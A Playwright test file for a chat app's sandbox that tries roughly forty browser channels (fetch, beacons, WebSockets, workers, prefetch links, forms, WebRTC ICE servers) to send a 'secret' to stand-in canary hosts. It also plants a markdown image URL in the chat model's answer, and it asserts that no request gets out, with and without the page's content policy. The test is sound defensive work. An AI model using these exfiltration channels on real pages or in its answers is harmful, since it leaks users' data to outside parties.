import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { launchApp, writeSettings } from './harness/app';
import { canHaveNetwork, runInNetwork, startCanary } from './harness/canary';
import { answers, ask, startHere } from './harness/person';
import { expect, test } from './harness/test';

/* In a network where everybody can be reached and is listened to, nobody is asked. */

const INSIDE = 'SAFYCORE_CANARY';

/** All that a page has to reach somebody; each names a host of its own. */
const reachOut = (page: Page): Promise<void> =>
  page.evaluate(async () => {
    const host = (name: string): string => `canary-${name}.example`;
    const url = (name: string): string => `https://${host(name)}/secret`;
    const quietly = async (work: () => unknown): Promise<void> => {
      try {
        await work();
      } catch {
        // As it should be.
      }
    };
    const add = (tag: string, values: Record<string, string>): void => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(values)) element.setAttribute(name, value);
      document.body.append(element);
    };
    const ways: (() => unknown)[] = [
      () => fetch(url('fetch')),
      () => fetch(url('cors'), { mode: 'no-cors', keepalive: true }),
      () => fetch(`http://${host('plain')}/`),
      () => fetch('http://10.1.2.3/'),
      () => navigator.sendBeacon(url('beacon'), 'secret'),
      () => new WebSocket(`wss://${host('socket')}`),
      () => new EventSource(url('events')),
      () => new Worker(url('worker')),
      () => new SharedWorker(url('shared-worker')),
      () => navigator.serviceWorker.register(url('service-worker')),
      () => import(url('module')),
      () => new Image().setAttribute('src', url('image')),
      () => document.fonts.add(new FontFace('x', `url(${url('font')})`)),
      () => new FontFace('y', `url(${url('face')})`).load(),
      () => new Audio(url('audio')).play(),
      () => {
        const style = new CSSStyleSheet();
        style.replaceSync(`body { background: url(${url('style')}) }`);
        document.adoptedStyleSheets.push(style);
      },
      ...[
        'dns-prefetch',
        'preconnect',
        'prefetch',
        'preload',
        'modulepreload',
        'stylesheet',
        'icon',
        'manifest',
      ].map((rel) => () => add('link', { rel, href: url(rel), as: 'image' })),
      ...['img', 'script', 'iframe', 'embed', 'video', 'audio', 'source', 'track', 'input'].map(
        (tag) => () => add(tag, { src: url(`tag-${tag}`), type: tag === 'input' ? 'image' : '' }),
      ),
      () => add('object', { data: url('object') }),
      () => add('meta', { 'http-equiv': 'refresh', content: `0;url=${url('refresh')}` }),
      () => {
        const rules = document.createElement('script');
        rules.type = 'speculationrules';
        rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [url('speculation')] }] });
        document.body.append(rules);
      },
      () => {
        const form = document.createElement('form');
        Object.assign(form, { action: url('form'), method: 'post', target: '_blank' });
        document.body.append(form);
        form.submit();
      },
      () => {
        const link = document.createElement('a');
        Object.assign(link, { href: url('link'), ping: url('ping'), download: 'x' });
        document.body.append(link);
        link.click();
      },
      () => window.open(url('popup')),
      async () => {
        const frame = document.body.appendChild(document.createElement('iframe'));
        const Peer = (frame.contentWindow as typeof window | null)?.RTCPeerConnection ?? RTCPeerConnection;
        const connection = new Peer({
          iceServers: [
            { urls: 'stun:canary-stun.example:3478' },
            { urls: 'stun:10.1.2.3:19302' },
            { urls: 'turn:10.1.2.3:443?transport=tcp', username: 'secret', credential: 'x' },
          ],
        });
        connection.createDataChannel('x');
        await connection.setLocalDescription(await connection.createOffer());
        await new Promise((resolve) => {
          connection.addEventListener('icegatheringstatechange', () => {
            if (connection.iceGatheringState === 'complete') resolve(undefined);
          });
        });
      },
    ];
    const late = new Promise((resolve) => setTimeout(resolve, 3_000));
    void Promise.allSettled(ways.map(quietly));
    // What nobody can wait for needs its time, too.
    await late;
  });

if (process.env[INSIDE] === undefined) {
  test('nobody is asked but the servers that the person has set up, over HTTP, DNS or UDP', ({}, testInfo) => {
    test.skip(!canHaveNetwork(), 'needs a network of its own: unshare and ip, on Linux');
    const { status, said } = runInNetwork(
      [
        'node_modules/@playwright/test/cli.js',
        'test',
        'e2e/canary.spec.ts',
        '--workers=1',
        '--reporter=line',
      ],
      { ...process.env, [INSIDE]: '1', PLAYWRIGHT_FORCE_TTY: '0' },
    );
    expect(status, said).toBe(0);
    expect(said, testInfo.title).toContain('1 passed');
  });
} else {
  test('nobody is heard', async ({ groq }) => {
    const userDataDir = await mkdtemp(join(tmpdir(), 'safycore-canary-'));
    await writeSettings(userDataDir, { chat: { endpoint: groq.url } });
    const canary = await startCanary();
    // Whoever is asked is heard: else this would prove nothing.
    await fetch('http://canary-control.example/').catch(() => undefined);
    expect(canary.heard()).toEqual(['dns canary-control.example', 'tcp 10.9.8.7:80']);

    const { page, close } = await launchApp({ userDataDir });
    await startHere(page);
    groq.next({
      kind: 'text',
      text: '![a](https://canary-answer.example/a.png) [b](https://canary-link.example/)',
    });
    await ask(page, 'Show me');
    await expect(answers(page)).toContainText('canary-answer.example');
    await reachOut(page);
    expect(canary.heard()).toEqual([]);

    // Without the page's policy, the session's walls are left.
    const chromium = await page.context().newCDPSession(page);
    await chromium.send('Page.setBypassCSP', { enabled: true });
    await page.reload();
    await expect(page.getByRole('textbox', { name: 'Message' })).toBeVisible();
    await reachOut(page);
    await close();
    expect(canary.heard()).toEqual([]);
    canary.stop();
    await rm(userDataDir, { recursive: true, force: true, maxRetries: 5 });
  });
}
